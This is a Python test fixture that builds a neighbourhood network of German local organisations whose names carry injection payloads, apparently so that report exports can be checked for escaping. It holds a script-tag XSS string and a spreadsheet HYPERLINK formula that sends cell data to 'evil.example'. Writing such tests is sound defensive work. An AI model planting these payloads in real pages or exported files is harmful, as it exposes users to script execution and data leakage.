"""Inputs for the report tests: a quarter whose names try to inject scripts and formulas."""

from __future__ import annotations

import pandas as pd

from quartiernetz import Network

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Klick")'
MAIL = "leitung@example.org"


def hostile_network() -> Network:
    """A quarter whose names try to inject a script, a formula and an e-mail address."""
    actors = pd.DataFrame(
        {
            "id": ["qm", "evil", "formula", "awo", "caritas", "kita", "verein"],
            "label": [
                "Quartiersmanagement",
                SCRIPT,
                FORMULA,
                "AWO <b>Treff</b> & Co",
                "@Caritas",
                "Kita",
                "+Verein",
            ],
            "type": [
                "Kommune",
                "Initiative",
                "Verein",
                "Wohlfahrtsverband",
                "Wohlfahrtsverband",
                "Kita",
                "Verein <i>x</i>",
            ],
            "contact_email": [MAIL] * 7,
        }
    )
    ties = pd.DataFrame(
        {
            "source": ["qm", "qm", "qm", "qm", "evil", "formula", "kita", "awo"],
            "target": ["evil", "formula", "awo", "caritas", "formula", "kita", "verein", "caritas"],
            "relation": ["cooperation"] * 7 + ["competition"],
            "intensity": [3, 2, 2, 1, 1, 2, 1, 1],
        }
    )
    affiliations = pd.DataFrame(
        {
            "actor": ["awo", "caritas", "evil", "formula", "qm", "evil", "formula"],
            "item": [
                "Seniorentreff",
                "Seniorentreff",
                SCRIPT,
                SCRIPT,
                "AK " + SCRIPT,
                "AK " + SCRIPT,
                "AK " + SCRIPT,
            ],
            "kind": ["offer", "offer", "offer", "offer", "committee", "committee", "committee"],
            "target_group": ["Senioren", "Senioren", FORMULA, FORMULA, None, None, None],
        }
    )
    return Network(actors=actors, ties=ties, affiliations=affiliations, name=SCRIPT)
